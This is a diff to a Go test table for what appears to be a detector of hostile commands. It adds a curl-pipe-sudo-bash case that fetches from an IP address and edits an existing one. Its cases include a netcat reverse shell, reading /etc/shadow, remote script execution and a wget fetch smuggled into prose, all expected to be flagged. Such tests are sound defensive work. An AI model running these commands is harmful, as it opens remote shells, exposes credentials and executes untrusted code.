@@ -111,7 +111,8 @@ func TestCMDEXE(t *testing.T) {
 		{"sqlite shell", ";\n.shell nc 10.0.0.1 6666 -e sh", true},
 		{"command line then hostile", "ls -la; cat /etc/shadow", true},
 		{"command line with substitution", "curl https://x.example/a || `curl https://x.example/b`", true},
-		{"curl pipe bash", "curl -sL https://x.example/setup.sh | sudo bash -", true},
+		{"curl pipe bash", "curl -sL http://x.example/setup.sh | sudo bash -", true},
+		{"curl pipe bash from an address", "curl -sL https://203.0.113.5/setup.sh | sudo bash -", true},
 		{"newline opens value", "\nid\n", true},
 		{"prose with hostile command", "nice product; wget http://x.example/s -O /tmp/s", true},
 
